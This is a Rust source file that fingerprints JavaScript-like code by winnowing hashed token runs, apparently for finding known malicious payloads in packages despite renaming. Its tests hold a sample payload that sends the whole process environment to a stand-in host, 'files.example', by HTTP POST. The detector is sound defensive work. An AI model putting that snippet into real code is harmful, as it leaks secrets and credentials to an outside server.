//! Fingerprints of code that survive renaming, reformatting and moving: hashes of token runs, winnowed.
//! Method: Schleimer, Wilkerson and Aiken, "Winnowing", 2003. It knows tokens and no grammar.
use std::hash::Hasher as _;

/// Tokens in one run: shorter ones are shared by all code, longer ones break at every edit.
const RUN: usize = 16;
/// Runs in one window, of which the smallest hash is kept: a match of `RUN + WINDOW - 1` tokens is always found.
const WINDOW: usize = 8;
/// Most tokens read of one file; a payload is told by far fewer.
const MAX_TOKENS: usize = 2_000_000;

/// The words of the language, which are kept as they are; every other name is only a name.
const WORDS: &[&str] = &[
    "async",
    "await",
    "break",
    "case",
    "catch",
    "class",
    "const",
    "continue",
    "delete",
    "do",
    "else",
    "export",
    "for",
    "function",
    "if",
    "import",
    "in",
    "instanceof",
    "let",
    "new",
    "of",
    "require",
    "return",
    "switch",
    "this",
    "throw",
    "try",
    "typeof",
    "var",
    "void",
    "while",
    "yield",
];

/// The fingerprints of a source, sorted.
#[must_use]
pub fn fingerprints(source: &str) -> Vec<u64> {
    let tokens = tokens(source);
    let runs: Vec<u64> = tokens.windows(RUN).map(|run| hash(&run)).collect();
    let mut kept: Vec<u64> = if runs.len() < WINDOW {
        runs.iter().min().copied().into_iter().collect()
    } else {
        runs.windows(WINDOW)
            .filter_map(|window| window.iter().min().copied())
            .collect()
    };
    kept.sort_unstable();
    kept.dedup();
    kept
}

/// A digest of a source without blanks, remarks and the given words, mostly the package's name and version.
/// `None` where too little is left to tell one source from another.
#[must_use]
pub fn exact(source: &str, hidden: &[&str]) -> Option<u64> {
    let mut source = source.to_owned();
    for word in hidden.iter().filter(|word| word.len() > 2) {
        source = source.replace(word, "\u{1}");
    }
    let bare: String = source.split_whitespace().collect();
    (bare.len() >= 128).then(|| hash(&bare))
}

/// A stable hash: the default hasher's keys are drawn anew in each process, and fingerprints are kept.
fn hash(value: &impl std::hash::Hash) -> u64 {
    let mut hasher = Fnv(0xcbf2_9ce4_8422_2325);
    value.hash(&mut hasher);
    // FNV's low bits are weak; a multiply and shift spreads them.
    let mixed = hasher.finish().wrapping_mul(0x9e37_79b9_7f4a_7c15);
    mixed ^ (mixed >> 32)
}

struct Fnv(u64);

impl std::hash::Hasher for Fnv {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.0 = (self.0 ^ u64::from(*byte)).wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
}

/// Tokens as small numbers: names, numbers and texts each look alike.
fn tokens(source: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = source;
    while let Some(c) = rest.chars().next() {
        if out.len() >= MAX_TOKENS {
            break;
        }
        let skipped = if let Some(remark) = rest.strip_prefix("//") {
            2 + remark.find('\n').unwrap_or(remark.len())
        } else if let Some(remark) = rest.strip_prefix("/*") {
            2 + remark.find("*/").map_or(remark.len(), |at| at + 2)
        } else if matches!(c, '"' | '\'' | '`') {
            out.push(2);
            text_length(rest, c)
        } else if c.is_ascii_digit() {
            out.push(1);
            rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_'))
                .unwrap_or(rest.len())
        } else if c.is_alphabetic() || c == '_' || c == '$' {
            let length = rest
                .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                .unwrap_or(rest.len());
            let word = rest.get(..length).unwrap_or_default();
            out.push(
                WORDS
                    .iter()
                    .position(|known| *known == word)
                    .and_then(|at| u8::try_from(at + 10).ok())
                    .unwrap_or(3),
            );
            length
        } else {
            if !c.is_whitespace() {
                out.push(if c.is_ascii() {
                    128 | u8::try_from(u32::from(c)).unwrap_or(0)
                } else {
                    4
                });
            }
            c.len_utf8()
        };
        rest = rest.get(skipped.max(1)..).unwrap_or_default();
    }
    out
}

/// Bytes of a text with its quotes; one that never ends takes the rest.
fn text_length(rest: &str, quote: char) -> usize {
    let mut escaped = false;
    for (at, c) in rest.char_indices().skip(1) {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            c if c == quote => return at + c.len_utf8(),
            _ => {}
        }
    }
    rest.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    const PAYLOAD: &str = "const http = require('http'); function send(data) { const r = http.request({ host: 'files.example', method: 'POST' }); r.write(JSON.stringify(data)); r.end(); } send(process.env);";

    #[test]
    fn renaming_and_reformatting_change_no_fingerprint() {
        let renamed = PAYLOAD
            .replace("send", "q1")
            .replace("data", "d")
            .replace("; ", ";\n\n  // words\n")
            .replace("files.example", "other.example");
        assert_eq!(fingerprints(PAYLOAD), fingerprints(&renamed));
    }

    #[test]
    fn a_payload_inside_other_code_is_found_again() {
        let inside = format!(
            "var a = [1,2,3]; for (let i of a) {{ console.log(i) }} {PAYLOAD} module.exports = {{ a, b: function () {{ return 7 }} }};"
        );
        let (small, large) = (fingerprints(PAYLOAD), fingerprints(&inside));
        let shared = small.iter().filter(|print| large.contains(print)).count();
        assert!(shared * 10 >= small.len() * 7, "{shared} of {}", small.len());
    }

    #[test]
    fn names_and_versions_do_not_hide_an_exact_copy() {
        let (a, b) = (
            format!("/* left 1.0.1 */ {PAYLOAD}"),
            format!("/*right   2.0.0*/ {PAYLOAD}"),
        );
        assert_eq!(exact(&a, &["left", "1.0.1"]), exact(&b, &["right", "2.0.0"]));
        assert_eq!(exact("x()", &[]), None);
    }

    #[test]
    fn odd_text_ends() {
        for text in ["'", "`\\", "/*", "//", "é'é", "\u{0}", "1.2.3.4.5"] {
            let _ = fingerprints(text);
        }
    }
}
